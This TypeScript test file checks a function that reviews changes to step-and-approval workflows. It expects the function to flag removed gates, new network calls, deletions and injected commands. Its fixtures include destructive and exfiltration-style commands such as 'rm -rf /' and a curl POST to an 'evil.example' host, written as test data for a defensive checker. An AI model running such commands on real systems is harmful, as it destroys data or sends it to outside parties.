import { expect, it } from "vitest";
import { catalog } from "@/lib/catalog";
import { openDocument } from "../document/open-document";
import { describeChange } from "./describe-change";

function changes(before: readonly string[], after: readonly string[]): readonly string[] {
  const [old, now] = [before, after].map((steps) =>
    openDocument(`steps:\n${steps.map((step) => `  - ${step}\n`).join("")}`, catalog),
  );
  if (old === undefined || now === undefined) throw new Error("There are two texts");
  return describeChange(old, now, catalog).map(({ severity, sentence }) => `${severity}: ${sentence}`);
}

const plan = "{ id: plan, run: ls }";
const gate = "{ id: ok, approval: Go on? }";
const send = "{ id: send, run: git push }";

it.each<[string, readonly string[], readonly string[], readonly string[]]>([
  ["nothing for the same text", [plan, gate, send], [plan, gate, send], []],
  ["nothing for comments", [plan, gate, send], [`${plan} # new`, gate, send], []],
  ["nothing for a question in other words", [gate, send], ["{ id: ok, approval: Really? }", send], []],
  ["a gate that is gone", [gate, send], [send], ["danger: removes the gate before `send`"]],
  ["a gate that held nothing back", [send, gate], [send], ["warning: removes the gate `ok`"]],
  ["a step that moved before its gate", [gate, send], [send, gate], ["danger: `send` is no longer behind `ok`"]],
  [
    "a gate that may be skipped",
    [plan, gate, send],
    [plan, "{ id: ok, approval: Go on?, when: $plan.json.n }", send],
    ["danger: lets `ok` be passed without asking when `$plan.json.n` is false"],
  ],
  [
    "a new gate",
    [plan, send],
    [plan, gate, send],
    ["good: adds the gate `ok`", "good: `send` is now always behind `ok`"],
  ],
  [
    "a new network call",
    ["{ id: fetch, run: ls }"],
    ["{ id: fetch, run: curl https://x.org }"],
    ["info: adds a network call to `fetch`: `curl`"],
  ],
  [
    "a new effect without a gate",
    [plan],
    [plan, send],
    ["danger: adds something that sends to `send`: `git push`, not behind any gate"],
  ],
  [
    "a new effect behind a gate",
    [gate, plan],
    [gate, plan, "{ id: drop, run: rm -r x }"],
    ["warning: adds a deletion to `drop`: `rm`, behind an approval"],
  ],
  [
    "an effect that is gone",
    [gate, send],
    [gate, "{ id: send, run: git status }"],
    ["info: removes something that sends from `send`: `git push`"],
  ],
  [
    "a condition that is gone",
    [plan, gate, "{ id: send, run: git push, when: $plan.json.n > 1 }"],
    [plan, gate, send],
    ["warning: `send` runs now also when `$plan.json.n > 1` is false"],
  ],
  [
    "a condition that changed",
    [plan, gate, "{ id: send, run: git push, when: $plan.json.n > 1 }"],
    [plan, gate, "{ id: send, run: git push, when: $plan.json.n > 0 }"],
    ["warning: `send` runs now when `$plan.json.n > 0`, no longer when `$plan.json.n > 1`"],
  ],
  [
    "data that comes from elsewhere",
    [
      plan,
      "{ id: web, run: curl x.org }",
      "{ id: draft, run: jq ., stdin: $plan.json }",
      gate,
      "{ id: s, run: mail -s a b, env: { TO: $draft.json.to } }",
    ],
    [
      plan,
      "{ id: web, run: curl x.org }",
      "{ id: draft, run: jq ., stdin: $web.json }",
      gate,
      "{ id: s, run: mail -s a b, env: { TO: $draft.json.to } }",
    ],
    ["warning: `$draft.json.to` in `s` now comes from `web`"],
  ],
  [
    "who may approve",
    ["{ id: ok, approval: { required_approver: ana } }", send],
    ["{ id: ok, approval: true }", send],
    ["danger: who may approve at `ok` changes from only ana to everybody"],
  ],
  [
    "a value pasted into a command line",
    [plan, "{ id: say, run: 'echo \"$TO\"', env: { TO: $plan.json.to } }"],
    [plan, "{ id: say, run: 'echo $plan.json.to' }"],
    ["warning: pastes `$plan.json.to` into the command line of `say`"],
  ],
  [
    "a second gate behind which an effect no longer stands",
    ["{ id: g1, approval: A? }", "{ id: g2, approval: { prompt: B?, required_approver: cfo } }", send],
    ["{ id: g1, approval: A? }", send, "{ id: g2, approval: { prompt: B?, required_approver: cfo } }"],
    ["danger: `send` is no longer behind `g2`"],
  ],
  [
    "one of two gates that is gone",
    ["{ id: g1, approval: A? }", gate, send],
    [gate, send],
    ["danger: removes the gate before `send`"],
  ],
  [
    "a second gate before an effect",
    [gate, send],
    [gate, "{ id: g2, approval: B? }", send],
    ["good: adds the gate `g2`", "good: `send` is now always behind `g2`"],
  ],
  [
    "another receiver",
    ["{ id: e, run: curl -X POST https://good.example/x }"],
    ["{ id: e, run: curl -X POST https://evil.example/x }"],
    [
      "danger: changes something that sends in `e` from `curl -X POST https://good.example/x` to " +
        "`curl -X POST https://evil.example/x`, not behind any gate",
    ],
  ],
  [
    "another folder to delete, behind a gate",
    [gate, "{ id: e, run: rm -rf ./tmp }"],
    [gate, "{ id: e, run: rm -rf / }"],
    ["warning: changes a deletion in `e` from `rm -rf ./tmp` to `rm -rf /`, behind an approval"],
  ],
  [
    "a second command with the same words",
    [gate, "{ id: e, run: curl -X POST https://good.example/x }"],
    [gate, "{ id: e, run: 'curl -X POST https://good.example/x; curl -X POST https://evil.example/y' }"],
    ["warning: adds something that sends to `e`: `curl -X POST https://evil.example/y`, behind an approval"],
  ],
  [
    "one of two commands with the same words that is gone",
    ["{ id: e, run: 'rm a; rm b' }"],
    ["{ id: e, run: 'rm b' }"],
    ["info: removes a deletion from `e`: `rm a`"],
  ],
  [
    "a host behind ssh",
    ["{ id: e, run: ssh one 'rm x' }"],
    ["{ id: e, run: ssh two 'rm x' }"],
    [
      "danger: changes a deletion in `e` from `ssh one 'rm x'` to `ssh two 'rm x'`, not behind any gate",
      "info: changes a network call in `e` from `ssh one 'rm x'` to `ssh two 'rm x'`",
    ],
  ],
  [
    "what leads to a command",
    [gate, "{ id: e, run: 'cd tmp && rm -rf x' }"],
    [gate, "{ id: e, run: 'cd / && rm -rf x' }"],
    ["warning: changes the text of `e` around `rm`"],
  ],
  [
    "where a command runs",
    ["{ id: e, run: rm -rf x, cwd: tmp }"],
    ["{ id: e, run: rm -rf x, cwd: / }"],
    ["danger: changes `cwd` of `e`, which does `rm`"],
  ],
  [
    "what is sent",
    [gate, "{ id: s, run: mail -s a b, stdin: $plan.json }"],
    [gate, "{ id: s, run: mail -s a b, stdin: $web.json }"],
    ["warning: changes `stdin` of `s`, which does `mail`"],
  ],
  ["nothing for comments in a script", ['{ id: e, run: "rm a\\n# one" }'], ['{ id: e, run: "# two\\nrm a" }'], []],
])("tells of %s", (_, before, after, expected) => {
  expect(changes(before, after)).toEqual(expected);
});

it("says nothing while a text cannot be read", () => {
  expect(describeChange(openDocument("steps: [", catalog), openDocument("steps: []", catalog), catalog)).toEqual([]);
});
